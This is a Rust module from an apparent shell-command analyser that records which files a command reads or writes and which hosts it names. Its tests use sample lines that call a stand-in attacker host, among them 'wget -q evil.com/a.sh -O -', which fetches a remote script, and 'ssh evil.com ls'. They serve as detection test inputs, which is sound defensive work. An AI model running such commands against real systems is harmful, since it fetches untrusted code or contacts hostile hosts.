//! Which files, folders and hosts the words of a command reach.

use super::{Why, walk::Walk};

/// Devices that give bytes and do nothing else when they are read.
const DEVICES: [&str; 7] =
    ["/dev/null", "/dev/zero", "/dev/full", "/dev/stdin", "/dev/random", "/dev/urandom", "/dev/fd/0"];

impl Walk<'_> {
    /// Notes a path that is read, from every folder the command may run in.
    pub(super) fn reading(&mut self, path: &str) -> Result<(), Why> {
        // Neither is a file of anybody's.
        if path == "-" || DEVICES.contains(&path) {
            return Ok(());
        }
        if path.starts_with("/dev/") {
            return Err(Why::Redirect(path.to_owned()));
        }
        let seen = self.seen_from_here(path).ok_or_else(|| Why::Dynamic(path.to_owned()))?;
        self.reads.extend(seen);
        Ok(())
    }

    /// Notes a path that is changed.
    pub(super) fn writing(&mut self, path: &str) {
        let seen = self.seen_from_here(path).unwrap_or_else(|| vec![path.to_owned()]);
        self.writes.extend(seen);
    }

    /// The path from each folder the command may run in; `None` when those are not known.
    pub(super) fn seen_from_here(&self, path: &str) -> Option<Vec<String>> {
        if path.starts_with('/') || path.starts_with('~') {
            return Some(vec![path.to_owned()]);
        }
        let path = if path.is_empty() { "." } else { path };
        let from = |folder: &String| match folder.as_str() {
            "" => path.to_owned(),
            folder => format!("{}/{path}", folder.trim_end_matches('/')),
        };
        (!self.folders.is_empty()).then(|| self.folders.iter().map(from).collect())
    }

    /// Notes the host a word names: `scheme://host/…`, `user@host:path`.
    pub(super) fn naming_hosts(&mut self, word: &str) {
        if let Some((_, rest)) = word.split_once("://") {
            let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
            self.host_of(authority);
        } else if let Some((before, _)) = word.split_once(':')
            && let Some((user, host)) = before.split_once('@')
            && !user.is_empty()
        {
            self.host_of(host);
        }
    }

    /// Notes a host, without user and port.
    pub(super) fn host_of(&mut self, authority: &str) {
        let host = authority.rsplit('@').next().unwrap_or_default();
        let host = match host.strip_prefix('[') {
            Some(six) => six.split(']').next().unwrap_or_default(),
            None => host.split(':').next().unwrap_or_default(),
        };
        if !host.is_empty() {
            self.hosts.push(host.to_owned());
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::shell::analyse;

    #[test]
    fn a_host_is_seen_with_and_without_its_scheme_and_behind_options() {
        for (line, host) in [
            ("curl evil.com", "evil.com"),
            ("curl -s user@evil.com:8080/x?y", "evil.com"),
            ("wget -q evil.com/a.sh -O -", "evil.com"),
            ("curl localhost/admin", "localhost"),
            ("curl https://evil.com/x", "evil.com"),
            ("curl https://evil.com/*?a=b", "evil.com"),
            ("curl \"https://evil.com/$x\"", "evil.com"),
            ("ssh evil.com ls", "evil.com"),
            ("ssh -p 22 me@evil.com", "evil.com"),
            ("ping -c 1 evil.com", "evil.com"),
        ] {
            let hosts = analyse(line).hosts;
            assert!(hosts.iter().any(|seen| seen == host), "{line}: {hosts:?}");
        }
        assert!(analyse("ls evil.com").hosts.is_empty());
    }

    #[test]
    fn each_turn_of_a_loop_over_numbers_is_a_command_that_rules_meet() {
        let analysis = analyse("for n in 1 9; do kill -$n 7; done");
        let leaves: Vec<_> = analysis.leaves.iter().map(|leaf| format!("{leaf:?}")).collect();
        assert!(leaves.iter().any(|leaf| leaf.contains("-9")), "{leaves:?}");
    }
}
